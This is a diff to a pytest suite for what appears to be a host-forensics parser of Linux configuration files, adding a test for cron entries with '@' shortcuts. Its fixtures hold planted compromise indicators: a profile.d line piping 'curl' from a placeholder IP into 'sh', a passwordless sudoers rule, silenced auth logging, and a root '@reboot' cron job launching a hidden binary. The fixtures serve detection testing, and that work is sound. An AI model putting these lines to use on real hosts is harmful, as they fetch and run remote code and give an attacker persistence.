@@ -49,6 +49,8 @@ def tables(tmp_path_factory):
         "etc/sudoers.d/90-svc": "# service account\nwww-data ALL=(ALL) NOPASSWD: ALL\n",
         "etc/profile.d/fix.sh": "export LANG=C.UTF-8\ncurl -s http://198.51.100.4/p | sh\n",
         "etc/rsyslog.conf": "# rules\nauth,authpriv.*\t/var/log/auth.log\n",
+        "etc/cron.d/0sync": "SHELL=/bin/sh\n@reboot root /home/bob/.config/.d/agent >/dev/null 2>&1\n",
+        "var/spool/cron/crontabs/bob": "# m h dom mon dow command\n@hourly /usr/bin/uptime\n",
         "etc/rsyslog.d/00-q.conf": "authpriv.* stop\n",
         "etc/rsyslog.d/notes.txt": "not read: rsyslog includes *.conf only\n",
         "etc/systemd/journald.conf.d/zz.conf": "[Journal]\n# keep it in RAM\nStorage=volatile\n",
@@ -100,6 +102,21 @@ def test_sudoers_rules_and_start_up_script_content(tables):
     assert "%sudo ALL=(ALL:ALL) ALL" in set(sudo["command"]) and not sudo["command"].str.contains("includedir").any()
     rc = _kind(tables, "shell_rc").set_index("path")
     assert "curl -s http://198.51.100.4/p | sh" in rc.loc["/etc/profile.d/fix.sh", "command"]
+
+
+def test_cron_lines_scheduled_by_a_shortcut(tables):
+    cron = _kind(tables, "cron")
+    short = cron[cron["schedule"].astype(str).str.startswith("@")]
+    assert short[["path", "user", "schedule", "command", "program"]].values.tolist() == [
+        [
+            "/etc/cron.d/0sync",
+            "root",
+            "@reboot",
+            "/home/bob/.config/.d/agent >/dev/null 2>&1",
+            "/home/bob/.config/.d/agent",
+        ],
+        ["/var/spool/cron/crontabs/bob", "bob", "@hourly", "/usr/bin/uptime", "/usr/bin/uptime"],
+    ]
 
 
 def test_logging_daemons_settings_one_row_per_line(tables):
